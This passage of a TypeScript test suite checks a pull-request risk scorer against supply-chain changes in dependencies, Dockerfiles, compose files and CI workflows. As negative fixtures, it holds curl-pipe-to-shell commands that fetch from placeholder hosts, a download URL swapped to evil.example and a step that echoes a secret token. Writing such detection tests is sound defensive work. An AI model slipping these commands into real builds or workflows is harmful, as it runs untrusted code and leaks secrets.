    expect(refresh.score).toBeGreaterThanOrEqual(0.25);
    expect(refresh.level).toBe('low');
    // One of them installed at runtime, or one pyproject.toml declares: the author chose it, medium.
    expect(risk(maintainer, chain([...locked.slice(1), dep('librt', false)])).level).toBe('medium');
    expect(risk(makeSnapshot({ authorAssociation: 'MEMBER', files: [...files, makeFile('pyproject.toml')], checkRuns: green }), chain([...locked, dep('librt', true, 'pyproject.toml')])).level).toBe('medium');
    // One of them from a git repository instead of the registry: whatever commit the lockfile names, medium.
    expect(risk(maintainer, chain([...locked.slice(1), dep('librt', true, 'uv.lock', 'git')])).level).toBe('medium');
    // A first contribution, or a check that failed: no cap.
    const newcomer = makeSnapshot({ authorAssociation: 'FIRST_TIME_CONTRIBUTOR', priorPrs: { alice: { total: 1, merged: 0 } }, files, checkRuns: green });
    expect(risk(newcomer, chain(locked)).level).toBe('medium');
    const failed = makeSnapshot({ authorAssociation: 'MEMBER', files, checkRuns: [...green, makeCheckRun('lint', { conclusion: 'failure' })] });
    expect(risk(failed, chain(locked)).level).not.toBe('low');
  });

  it('does not count a package the PR moves from one manifest to another as new; a new one beside it, or a move from development into runtime, counts', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('pyproject.toml'), makeFile('requirements/requirements-testing.txt', { status: 'removed' })], checkRuns: green });
    const dep = (name: string, manifest: string, dev: boolean) => ({ ecosystem: 'pypi', name, version: '>=7.0.1,<8', manifest, dev, source: 'registry' as const });
    const folded = risk(
      snapshot,
      makeSupplyChain({
        new_dependencies: [dep('pytest', 'pyproject.toml', true), dep('pytest-django', 'pyproject.toml', true), dep('pyyaml', 'pyproject.toml', true)],
        removed_dependencies: [dep('pytest', 'requirements/requirements-testing.txt', true), dep('pytest_django', 'requirements/requirements-testing.txt', true), dep('PyYAML', 'requirements.txt', false)],
      }),
    );
    expect(folded.drivers).toEqual([]);
    const withNew = risk(
      snapshot,
      makeSupplyChain({
        new_dependencies: [dep('pytest', 'pyproject.toml', true), dep('pytest-xdist', 'pyproject.toml', true), dep('coverage', 'pyproject.toml', false)],
        removed_dependencies: [dep('pytest', 'requirements/requirements-testing.txt', true), dep('coverage', 'requirements/requirements-testing.txt', true), dep('pytest-xdist', 'uv.lock', true)],
      }),
    );
    expect(withNew.drivers.map((d) => [d.id, d.weight, d.detail])).toEqual([['new-dependencies', 0.07, '2 new dependencies (1 runtime, 1 development): pytest-xdist, coverage.']]);
  });

  it('does not report a binary twice when a finding already covers its path', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('bin/x.exe', { status: 'added' })], checkRuns: green });
    const result = risk(snapshot, makeSupplyChain({ findings: [makeTestFinding({ id: 'binary-executable', severity: 'high', path: 'bin/x.exe' })] }));
    expect(result.drivers.map((d) => d.id)).toEqual(['finding:binary-executable']);
  });

  it('weighs untested source changes by size: 0.05 up to 10 lines, 0.1 up to 100, 0.2 beyond', () => {
    const weight = (lines: number) =>
      risk(makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('src/a.ts', { additions: lines, deletions: 0 })], checkRuns: green })).drivers.find((d) => d.id === 'tests-missing')?.weight;
    expect([weight(4), weight(10), weight(11), weight(100), weight(101)]).toEqual([0.05, 0.05, 0.1, 0.1, 0.2]);
  });

  it('reports major version updates of direct dependencies: 0.25 with a runtime one, 0.05 for development only with CI green, else 0.1', () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('package.json'), makeFile('package-lock.json')], checkRuns: green });
    const updated = (name: string, from: string, to: string, dev: boolean, manifest = 'package.json') =>
      ({ ecosystem: 'npm', name, version: to, manifest, dev, source: 'registry' as const, from_version: from, to_version: to, direction: 'upgrade' as const });
    const runtime = risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('pino', '9.5.0', '10.1.0', false), updated('zod', '4.1.11', '4.1.12', false)] }));
    expect(runtime.drivers.map((d) => [d.id, d.weight, d.evidence])).toEqual([['major-updates', 0.25, ['npm:pino@9.5.0→10.1.0']]]);
    expect(runtime.level).toEqual('medium');
    // One crate moved in the workspace's manifest and in its examples' is one move, runtime when either is.
    const twice = risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('pino', '9.5.0', '10.1.0', true, 'examples/package.json'), updated('pino', '9.5.0', '10.1.0', false)] }));
    expect(twice.drivers.map((d) => [d.id, d.weight, d.evidence])).toEqual([['major-updates', 0.25, ['npm:pino@9.5.0→10.1.0']]]);
    expect(twice.drivers[0]!.detail).toMatch(/^1 dependency moves to a new major version \(1 runtime\): pino 9\.5\.0 → 10\.1\.0\./);
    const dev = risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('eslint', '8.57.0', '9.14.0', true)] }));
    expect(dev.drivers.map((d) => [d.id, d.weight])).toEqual([['major-updates', 0.05]]);
    expect(dev.drivers[0]!.detail).toContain('every check passed');
    // Development tooling whose checks have not all passed (one pending) may yet break: 0.1.
    const pending = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('package.json'), makeFile('package-lock.json')], checkRuns: [...green, makeCheckRun('e2e', { status: 'in_progress', conclusion: null })] });
    const devPending = risk(pending, makeSupplyChain({ updated_dependencies: [updated('eslint', '8.57.0', '9.14.0', true)] }));
    expect(devPending.drivers.find((d) => d.id === 'major-updates')?.weight).toBe(0.1);
    expect(devPending.drivers.find((d) => d.id === 'major-updates')?.detail).toContain('Read the changelogs');
    // Transitive changes (reported against the lockfile) follow from the direct ones: not counted again.
    const transitive = risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('debug', '3.2.7', '4.3.8', false, 'package-lock.json')] }));
    expect(transitive.drivers).toEqual([]);
  });

  it("does not count a local path dependency's new major: a workspace release's version of its own crate (calib30)", () => {
    const snapshot = makeSnapshot({ authorAssociation: 'OWNER', files: [makeFile('cli_builder/Cargo.toml'), makeFile('Cargo.lock')], checkRuns: green });
    const updated = (source: 'path' | 'registry') =>
      ({ ecosystem: 'cargo', name: 'cli_lex', version: '1.0.0', manifest: 'cli_builder/Cargo.toml', dev: false, source, from_version: '0.7.4', to_version: '1.0.0', direction: 'upgrade' as const });
    expect(risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('path')] })).drivers.map((d) => d.id)).toEqual([]);
    expect(risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('registry')] })).drivers.map((d) => [d.id, d.weight])).toEqual([['major-updates', 0.25]]);
  });

  it("weighs a major update of the organization's own package (npm scope, Composer vendor, Go module under the owner) as tooling", () => {
    const snapshot = makeSnapshot({ owner: 'docker', authorAssociation: 'MEMBER', files: [makeFile('package.json'), makeFile('yarn.lock')], checkRuns: green });
    const updated = (ecosystem: string, name: string, from: string, to: string) =>
      ({ ecosystem, name, version: to, manifest: ecosystem === 'go' ? 'go.mod' : ecosystem === 'composer' ? 'composer.json' : 'package.json', dev: false, source: 'registry' as const, from_version: from, to_version: to, direction: 'upgrade' as const });
    // Dependabot's bump of the organization's own toolkit, 0.91 to 0.92 (a 0.x minor is a major): green CI, 0.05.
    for (const [ecosystem, name, from, to] of [['npm', '@docker/actions-toolkit', '0.91.0', '0.92.0'], ['npm', '@Docker/cli-tools', '2.1.0', '3.0.0'], ['composer', 'docker/sdk', '1.4.0', '2.0.0'], ['go', 'github.com/docker/cli', 'v27.5.1', 'v28.0.0']] as const) {
      const own = risk(snapshot, makeSupplyChain({ updated_dependencies: [updated(ecosystem, name, from, to)] }));
      expect(own.drivers.map((d) => [d.id, d.weight]), name).toEqual([['major-updates', 0.05]]);
      expect(own.drivers[0]!.detail).toContain("of this repository's own organization");
      expect(own.level).toEqual('low');
    }
    // Another organization's package, or a name that only starts like the owner's: runtime, 0.25.
    for (const name of ['@dockerx/toolkit', 'docker-compose', '@actions/core']) {
      expect(risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('npm', name, '0.91.0', '0.92.0')] })).drivers.map((d) => [d.id, d.weight]), name).toEqual([['major-updates', 0.25]]);
    }
    expect(risk(snapshot, makeSupplyChain({ updated_dependencies: [updated('go', 'github.com/dockerx/cli', '1.0.0', '2.0.0')] })).drivers.map((d) => d.weight)).toEqual([0.25]);
  });

  it('leaves a sensitive file to its finding when the finding is medium or worse, and a new dependency to its finding', () => {
    const files = [makeFile('.github/workflows/docs.yml', { status: 'added', additions: 18, deletions: 0 })];
    const snapshot = makeSnapshot({ authorAssociation: 'MEMBER', files, checkRuns: green });
    const dep = { ecosystem: 'github-actions', name: 'peaceiris/actions-gh-pages', version: 'v4', manifest: '.github/workflows/docs.yml', dev: false, source: 'registry' as const };
    const medium = makeTestFinding({ id: 'gha-unpinned-action', severity: 'medium', path: '.github/workflows/docs.yml', package: 'peaceiris/actions-gh-pages' });
    expect(risk(snapshot, makeSupplyChain({ findings: [medium], new_dependencies: [dep] })).drivers.map((d) => d.id)).toEqual(['finding:gha-unpinned-action']);
    // A low finding does not stand in for the file's sensitivity (else a low finding would lower the risk).
    const low = makeTestFinding({ id: 'gha-excessive-permissions', severity: 'low', path: '.github/workflows/docs.yml' });
    expect(risk(snapshot, makeSupplyChain({ findings: [low] })).drivers.map((d) => [d.id, d.weight])).toEqual([
      ['sensitive-paths', 0.35],
      ['finding:gha-excessive-permissions', 0.1],
    ]);
  });

  it('says CI is partly unknown when one of the two CI reads failed, and never that CI is missing', () => {
    const files = [makeFile('README.md')];
    const partly = risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: null, statuses: [{ context: 'ci/e2e', state: 'success', description: null, targetUrl: null, updatedAt: null }] }));
    expect(partly.drivers.map((d) => [d.id, d.title, d.weight, d.evidence])).toEqual([['ci-unknown', 'CI status partly unknown', 0.1, ['check runs']]]);
    const nothing = risk(makeSnapshot({ authorAssociation: 'OWNER', files, checkRuns: null, statuses: [] }));
    expect(nothing.drivers.map((d) => [d.id, d.title, d.weight])).toEqual([['ci-unknown', 'CI status unknown', 0.15]]);
  });
});


describe('Dockerfile build arguments that only move a release and its digest', () => {
  const hunk = (lines: string[]) => `@@ -120,6 +120,6 @@\n FROM go-build AS build-containerd\n${lines.join('\n')}\n ARG CONTAINERD_CLONE_URL="https://github.com/containerd/containerd"\n`;
  const digestA = 'a'.repeat(64);
  const digestB = 'b'.repeat(64);
  it('recognises a release moved in ARG or ENV, with its download digest and the images\' tags', () => {
    expect(onlyBuildArgVersionsMoved('images/base/Dockerfile', hunk(['-ARG CONTAINERD_VERSION="v2.1.1"', '+ARG CONTAINERD_VERSION="v2.1.3"']))).toBe(true);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG RUNC_VERSION=v1.2.4', `-ARG RUNC_AMD64_SHA256SUM=${digestA}`, '+ARG RUNC_VERSION=v1.3.4', `+ARG RUNC_AMD64_SHA256SUM=${digestB}`]))).toBe(true);
    expect(onlyBuildArgVersionsMoved('build/node.Dockerfile', hunk(['-ENV NODE_VERSION 22.11.0', '+ENV NODE_VERSION 22.12.0']))).toBe(true);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-# TODO: move to 1.3.x once the regression is fixed', '-ARG RUNC_VERSION="v1.2.9"', '+ARG RUNC_VERSION="v1.3.4"']))).toBe(true);
    expect(onlyBuildArgVersionsMoved('Containerfile', hunk(['-FROM debian:bookworm-slim', '-ARG CNI_PLUGINS_VERSION="v1.5.1"', '+FROM debian:trixie-slim', '+ARG CNI_PLUGINS_VERSION="v1.6.0"']))).toBe(true);
  });
  it('is false for a URL, a command, a digest moved with no release, another variable, a line added, another file or no patch', () => {
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG CONTAINERD_VERSION="v2.1.1"', '+ARG CONTAINERD_VERSION="https://evil.example/containerd.tgz"']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG CONTAINERD_CLONE_URL="https://github.com/containerd/containerd"', '+ARG CONTAINERD_CLONE_URL="https://github.com/someone/containerd"']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk([`-ARG RUNC_AMD64_SHA256SUM=${digestA}`, `+ARG RUNC_AMD64_SHA256SUM=${digestB}`]))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GOLANG_VERSION=1.24.4']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=1.24.4', '+RUN curl -fsSL https://x.test/i.sh | sh']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=$(cat /tmp/v)']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-FROM debian:bookworm-slim', '-ARG GO_VERSION=1.24.3', '+FROM evil/debian:bookworm-slim', '+ARG GO_VERSION=1.24.4']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('scripts/versions.sh', hunk(['-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=1.24.4']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-ARG CONTAINERD_VERSION="v1.7.24"', '+ARG CONTAINERD_VERSION="v2.0.2"']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', hunk(['-# syntax=docker/dockerfile:1', '+# syntax=evil/frontend:1', '-ARG GO_VERSION=1.24.3', '+ARG GO_VERSION=1.24.4']))).toBe(false);
    expect(onlyBuildArgVersionsMoved('Dockerfile', null)).toBe(false);
  });
});

describe('tool version files beside the workflows that only move a version', () => {
  const moved = (from: string, to: string) => `@@ -1,1 +1,1 @@\n-${from}\n+${to}\n`;

  it('recognises a version moved to another in .java-version, .nvmrc, .python-version and .tool-versions', () => {
    expect(onlyToolVersionMoved('.github/workflows/.java-version', moved('21.0.4+7', '21.0.5+11'))).toBe(true);
    expect(onlyToolVersionMoved('.github/workflows/.nvmrc', moved('v22.11.0', 'v22.12.0'))).toBe(true);
    expect(onlyToolVersionMoved('.github/workflows/.nvmrc', moved('lts/hydrogen', 'lts/iron'))).toBe(true);
    expect(onlyToolVersionMoved('.github/.python-version', moved('3.12', '3.13'))).toBe(true);
    expect(onlyToolVersionMoved('.github/workflows/.java-version', moved('temurin-21.0.4', 'temurin-21.0.5'))).toBe(true);
    expect(onlyToolVersionMoved('.github/workflows/.tool-versions', '@@ -1,2 +1,2 @@\n-nodejs 22.11.0\n+nodejs 22.12.0\n python 3.12.7\n')).toBe(true);
  });

  it('is false for a path, a ref, another tool, a line added, another file name, or no patch', () => {
    expect(onlyToolVersionMoved('.github/workflows/.nvmrc', moved('22.11.0', './tools/node.js'))).toBe(false);
    expect(onlyToolVersionMoved('.github/workflows/.tool-versions', moved('nodejs 22.11.0', 'nodejs ref:main'))).toBe(false);
    expect(onlyToolVersionMoved('.github/workflows/.tool-versions', moved('nodejs 22.11.0', 'nodejs path:/opt/node'))).toBe(false);
    expect(onlyToolVersionMoved('.github/workflows/.tool-versions', moved('nodejs 22.11.0', 'deno 2.1.0'))).toBe(false);
    expect(onlyToolVersionMoved('.github/workflows/.tool-versions', '@@ -1,1 +1,2 @@\n nodejs 22.11.0\n+python 3.12.7\n')).toBe(false);
    expect(onlyToolVersionMoved('.github/workflows/ci.yml', moved('21.0.4', '21.0.5'))).toBe(false);
    expect(onlyToolVersionMoved('.github/workflows/.java-version', null)).toBe(false);
  });

  it('does not count such a bump as a security-sensitive CI change; another content is one', () => {
    const bump = makeSnapshot({ files: [makeFile('.github/workflows/.java-version', { additions: 1, deletions: 1, patch: moved('21.0.4+7', '21.0.5+11') })], checkRuns: green });
    expect(risk(bump).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
    const other = makeSnapshot({ files: [makeFile('.github/workflows/.nvmrc', { additions: 1, deletions: 1, patch: moved('22.11.0', './tools/node.js') })], checkRuns: green });
    expect(risk(other).drivers.map((d) => d.id)).toContain('sensitive-paths');
  });
});

describe('workflow changes that only move action refs', () => {
  const bump = '@@ -12,7 +12,7 @@ jobs:\n     runs-on: ubuntu-latest\n     steps:\n-      - uses: actions/checkout@v4\n+      - uses: actions/checkout@v5\n       - run: npm ci\n-      - uses: actions/setup-node@1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0\n+      - uses: actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020 # v4.4.0\n';
  const logic = '@@ -12,6 +12,7 @@ jobs:\n     steps:\n       - uses: actions/checkout@v5\n+      - run: echo "deploying"\n       - run: npm ci\n';

  it('recognises a diff of uses: lines only', () => {
    expect(onlyActionRefsChanged(bump)).toBe(true);
    expect(onlyActionRefsChanged(logic)).toBe(false);
    expect(onlyActionRefsChanged(bump + '+    permissions: write-all\n')).toBe(false);
    expect(onlyActionRefsChanged(null)).toBe(false);
    expect(onlyActionRefsChanged('@@ -1,1 +1,1 @@\n name: ci\n')).toBe(false);
  });

  it('does not count an action bump as a security-sensitive CI change, but does count a logic change', () => {
    const bumpPr = makeSnapshot({ files: [makeFile('.github/workflows/ci.yml', { additions: 2, deletions: 2, patch: bump })], checkRuns: green });
    expect(risk(bumpPr).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
    const logicPr = makeSnapshot({ files: [makeFile('.github/workflows/ci.yml', { additions: 1, deletions: 0, patch: logic })], checkRuns: green });
    expect(risk(logicPr).drivers.map((d) => d.id)).toContain('sensitive-paths');
  });
});

describe('new dependencies another manifest already listed', () => {
  const dep = (manifest: string, name: string, version: string | null, dev = true) => ({ ecosystem: 'pypi', name, version, manifest, dev, source: 'registry' });
  const newDeps = (supplyChain: Parameters<typeof makeSupplyChain>[0]) => risk(makeSnapshot({ files: [makeFile('requirements/dev.txt')] }), makeSupplyChain(supplyChain)).drivers.find((d) => d.id === 'new-dependencies');

  it('are not new when a requirements include moved to a compiled file (`-r docs.in` to `-r docs.txt`): the including file lists them again, pinned', () => {
    const pinned = ['sphinx', 'furo'].map((name) => dep('requirements/docs.txt', name, '==8.1.3'));
    const updated = ['sphinx', 'furo'].map((name) => ({ ...dep('requirements/dev.txt', name, '==8.1.3'), from_version: null, to_version: '==8.1.3', direction: 'unknown' }));
    expect(newDeps({ new_dependencies: pinned as never, updated_dependencies: updated as never })).toBeUndefined();
    // A package no other manifest had is new, and so is a development package that a runtime manifest now lists.
    expect(newDeps({ new_dependencies: [...pinned, dep('requirements/docs.txt', 'sphinx-evil', '==1.0')] as never, updated_dependencies: updated as never })?.detail).toContain('sphinx-evil');
    expect(newDeps({ new_dependencies: [dep('requirements/base.txt', 'sphinx', '==8.1.3', false)] as never, updated_dependencies: updated as never })).toBeDefined();
  });
});

describe('sensitive files moved unchanged', () => {
  const renamed = (path: string, previousPath: string, additions = 0, deletions = 0) => makeFile(path, { status: 'renamed', previousPath, additions, deletions, patch: additions + deletions === 0 ? null : '@@ -1,1 +1,1 @@\n-a\n+b' });
  const ids = (files: ReturnType<typeof makeFile>[]) => risk(makeSnapshot({ authorAssociation: 'MEMBER', files, checkRuns: green })).drivers.map((d) => d.id);

  it('does not weigh a package moved under src/ with its auth and session modules unchanged', () => {
    expect(ids([renamed('src/requests/auth.py', 'requests/auth.py'), renamed('src/requests/sessions.py', 'requests/sessions.py'), renamed('src/requests/certs.py', 'requests/certs.py')])).not.toContain('sensitive-paths');
    expect(ids([renamed('.github/workflows/tests.yml', '.github/workflows/ci.yml')])).not.toContain('sensitive-paths');
  });

  it('weighs a file moved into a sensitive place, and a sensitive file moved with edits', () => {
    expect(ids([renamed('.github/workflows/release.yml', 'scripts/release.yml')])).toContain('sensitive-paths');
    expect(ids([renamed('src/auth/helpers.py', 'src/util/helpers.py')])).toContain('sensitive-paths');
    expect(ids([renamed('src/requests/auth.py', 'requests/auth.py', 1, 1)])).toContain('sensitive-paths');
  });
});

describe('Dockerfile, compose and Kubernetes changes that only move image tags', () => {
  const compose = '@@ -2,7 +2,7 @@ services:\n   mysql:\n-    image: mysql:9.1\n+    image: mysql:9.2\n     ports:\n       - "3306:3306"\n   postgres:\n-    image: postgres:17.0\n+    image: postgres:17.2\n';
  const digest = '@@ -1,4 +1,4 @@\n-FROM debian:bookworm-slim@sha256:' + 'a'.repeat(64) + ' AS build\n+FROM debian:bookworm-slim@sha256:' + 'b'.repeat(64) + ' AS build\n RUN apt-get update\n';

  it('recognises tags and digests moved on the images a file already names', () => {
    expect(onlyImageTagsMoved(compose)).toBe(true);
    expect(onlyImageTagsMoved(digest)).toBe(true);
    expect(onlyImageTagsMoved('@@ -1,2 +1,2 @@\n-FROM --platform=$BUILDPLATFORM golang:1.22 AS build\n+FROM --platform=$BUILDPLATFORM golang:1.23 AS build\n')).toBe(true);
    // Another image, a new line of another kind, or a removal alone is a change of what runs.
    expect(onlyImageTagsMoved('@@ -1,1 +1,1 @@\n-    image: postgres:17.0\n+    image: postgress/postgres:17.0\n')).toBe(false);
    expect(onlyImageTagsMoved(compose + '+    command: ["sh", "-c", "curl -s https://x.example | sh"]\n')).toBe(false);
    expect(onlyImageTagsMoved('@@ -1,2 +1,1 @@\n-FROM node:20\n')).toBe(false);
    expect(onlyImageTagsMoved(null)).toBe(false);
  });

  it('does not count an image bump as a security-sensitive change; a new service does count', () => {
    const bumpPr = makeSnapshot({ files: [makeFile('docker-compose.yml', { additions: 2, deletions: 2, patch: compose })], checkRuns: green });
    expect(risk(bumpPr).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
    const digestPr = makeSnapshot({ files: [makeFile('Dockerfile', { additions: 1, deletions: 1, patch: digest })], checkRuns: green });
    expect(risk(digestPr).drivers.map((d) => d.id)).not.toContain('sensitive-paths');
    const service = '@@ -2,3 +2,5 @@ services:\n   mysql:\n     image: mysql:9.1\n+  agent:\n+    image: acme/agent:latest\n';
    const servicePr = makeSnapshot({ files: [makeFile('docker-compose.yml', { additions: 2, deletions: 0, patch: service })], checkRuns: green });
    expect(risk(servicePr).drivers.map((d) => d.id)).toContain('sensitive-paths');
  });
});

describe('trusted routine changes (verdict rule trusted-routine)', () => {
  const workflow = (o: { test?: string; extra?: string; trigger?: string; permissions?: string } = {}) =>
    [
      'name: CI',
      'on:',
      '  pull_request:',
      ...(o.trigger !== undefined ? [o.trigger] : []),
      'permissions:',
      `  contents: ${o.permissions ?? 'read'}`,
      'jobs:',
      '  bench:',
      '    runs-on: ubuntu-24.04',
      '    steps:',
      '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
      `      - run: ${o.test ?? 'go test -bench=. ./...'}`,
      ...(o.extra !== undefined ? [o.extra] : []),
      '',
    ].join('\n');
  const base = workflow();

  it('recognises an edit of the commands of steps the base already had, and nothing more', () => {
    expect(editsOnlyCommands(base, workflow({ test: 'go test -bench=. -benchtime=5x ./...' }), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, workflow({ extra: '      - run: npx c8 report' }), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, workflow({ extra: '      - uses: codecov/codecov-action@v5' }), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, workflow({ trigger: '  pull_request_target:' }), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, workflow({ permissions: 'write' }), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, workflow({ test: 'go test -bench=. ./... && echo ${{ secrets.BENCH_TOKEN }}' }), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, 'jobs: [', 'workflow')).toBe(false);
  });

  it('recognises a step of another action of an account the workflow already uses, without code in its inputs', () => {
    const ci = (extra: string[]) =>
      ['name: test', 'on:', '  push:', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', '      - uses: actions/setup-python@v5', ...extra, '      - run: pytest', ''].join('\n');
    const base = ci([]);
    // actions/cache beside actions/checkout: GitHub's account already ran code in the job.
    expect(editsOnlyCommands(base, ci(['      - uses: actions/cache@v4', '        with:', '          path: ~/.cache/pip', "          key: pip-${{ hashFiles('pyproject.toml') }}"]), 'workflow')).toBe(true);
    // Another account's action, a script handed to github-script, a command line as an input: not.
    expect(editsOnlyCommands(base, ci(['      - uses: codecov/codecov-action@v5']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, ci(['      - uses: actions/github-script@v7', '        with:', '          script: console.log(1)']), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, ci(['      - uses: actions/some-runner@v1', '        with:', '          run: curl -sSf https://x.example | sh']), 'workflow')).toBe(false);
    // A local action is no account's.
    const local = ['name: test', 'on: [push]', 'jobs:', '  t:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: ./.github/actions/setup', '      - run: make', ''].join('\n');
    expect(editsOnlyCommands(local, local.replace('      - run: make', '      - uses: ./.github/actions/other\n      - run: make'), 'workflow')).toBe(false);
  });

  it('recognises a new job or step built from what the workflow already runs: its actions, its commands with other versions', () => {
    const e2e = (jobs: string[], trigger = '  push:') =>
      ['name: e2e', 'on:', '  pull_request:', trigger, 'jobs:', '  version-file:', '    runs-on: ${{ matrix.os }}', '    strategy:', '      matrix:', '        os: [ubuntu-latest, windows-latest]', '    steps:', '      - uses: actions/checkout@v4', '      - uses: ./', '        with:', "          node-version-file: '.nvmrc'", '      - run: __tests__/verify-node.sh 24', ...jobs, ''].join('\n');
    const newJob = (steps: string[], extra: string[] = []) => ['  version-file-volta:', '    runs-on: ubuntu-latest', ...extra, '    steps:', '      - uses: actions/checkout@v4', '      - uses: ./', '        with:', "          node-version-file: 'package.json'", ...steps];
    const base = e2e([]);
    // A job like the others: the same actions, the repository's own verify script with another version.
    expect(editsOnlyCommands(base, e2e(newJob(['      - run: __tests__/verify-node.sh 20'])), 'workflow')).toBe(true);
    // A new step in an existing job: a known command with another version; another flag is another command.
    expect(editsOnlyCommands(base, base.replace('      - run: __tests__/verify-node.sh 24\n', '      - run: __tests__/verify-node.sh 24\n      - run: __tests__/verify-node.sh "22"\n'), 'workflow')).toBe(true);
    expect(editsOnlyCommands(base, base.replace('      - run: __tests__/verify-node.sh 24\n', '      - run: __tests__/verify-node.sh 24\n      - run: __tests__/verify-node.sh 24 --skip-checksum\n'), 'workflow')).toBe(false);
    // A scheduled run is the repository's own code too; a `cd` into another crate runs nothing by itself.
    const nightly = (run: string) => ['name: ci', 'on:', '  push:', '  pull_request:', '  schedule:', "    - cron: '0 3 * * 0'", 'jobs:', '  test:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', `      - run: ${run}`, ''].join('\n');
    const twoCrates = (run: string) => nightly('cd core && cargo test --features rc') + ['  core:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', `      - run: ${run}`, ''].join('\n');
    expect(editsOnlyCommands(nightly('cd core && cargo test --features rc'), twoCrates('cd core_derive && cargo test --features rc'), 'workflow')).toBe(true);
    expect(editsOnlyCommands(nightly('cd core && cargo test --features rc'), twoCrates('cd "$(mktemp -d)" && cargo test --features rc'), 'workflow')).toBe(false);
    expect(editsOnlyCommands(nightly('cd core && cargo test --features rc'), twoCrates('cd core_derive && cargo publish'), 'workflow')).toBe(false);
    // The base runs it with the matrix's versions: a job that runs it with one version is the same command.
    const matrixBase = base.replace('verify-node.sh 24', 'verify-node.sh "${{ matrix.node-version }}"');
    expect(editsOnlyCommands(matrixBase, e2e(newJob(['      - run: __tests__/verify-node.sh 14'])).replace('verify-node.sh 24', 'verify-node.sh "${{ matrix.node-version }}"'), 'workflow')).toBe(true);
    // A program, an action, a secret, a permission, an environment or a privileged trigger the base did not have is not.
    expect(editsOnlyCommands(base, e2e(newJob(['      - run: npx c8 report'])), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base.replace('verify-node.sh 24', '${{ matrix.verify }} 24'), e2e(newJob(['      - run: ${{ matrix.verify }} 20'])).replace('verify-node.sh 24', '${{ matrix.verify }} 24'), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, e2e(newJob(['      - run: curl -sSf https://get.example.dev -o i.sh && sh i.sh'])), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, e2e(newJob(['      - uses: codecov/codecov-action@v5'])), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, e2e(newJob(['      - run: __tests__/verify-node.sh ${{ secrets.NPM_TOKEN }}'])), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, e2e(newJob(['      - run: __tests__/verify-node.sh 20'], ['    permissions:', '      contents: write'])), 'workflow')).toBe(false);
    expect(editsOnlyCommands(base, e2e(newJob(['      - run: __tests__/verify-node.sh 20'], ['    environment: production'])), 'workflow')).toBe(false);
    expect(editsOnlyCommands(e2e([], '  pull_request_target:'), e2e(newJob(['      - run: __tests__/verify-node.sh 20']), '  pull_request_target:'), 'workflow')).toBe(false);
    expect(editsOnlyCommands(e2e([], '  release:'), e2e(newJob(['      - run: __tests__/verify-node.sh 20']), '  release:'), 'workflow')).toBe(false);
  });

  it('recognises steps removed, a step built from what the workflow runs inserted beside edited ones, and an option set to a version', () => {
    const ci = (jobs: string[][]) =>
      ['name: CI', 'on:', '  push:', '  pull_request:', 'jobs:', ...jobs.flatMap((steps, n) => [`  job${n}:`, '    runs-on: ubuntu-latest', '    steps:', ...steps]), ''].join('\n');
    const setup = ['      - uses: actions/checkout@v4', '      - uses: shivammathur/setup-php@v2', '      - run: composer update --no-interaction'];
    const servers = ['      - name: Start test servers', '        run: |', '          node tests/server.js &', '          ./vendor/bin/http_test_server &'];
    const windows = [...setup, ...servers, '      - run: vendor/bin/phpunit.bat'];
    const base = ci([[...setup, '      - run: make test'], windows]);
    // The servers started in a step of their own as the other job does, the tests run directly: the job's commands edited.
    expect(editsOnlyCommands(base, ci([[...setup, ...servers, '      - run: ./vendor/bin/phpunit'], windows]), 'workflow')).toBe(true);
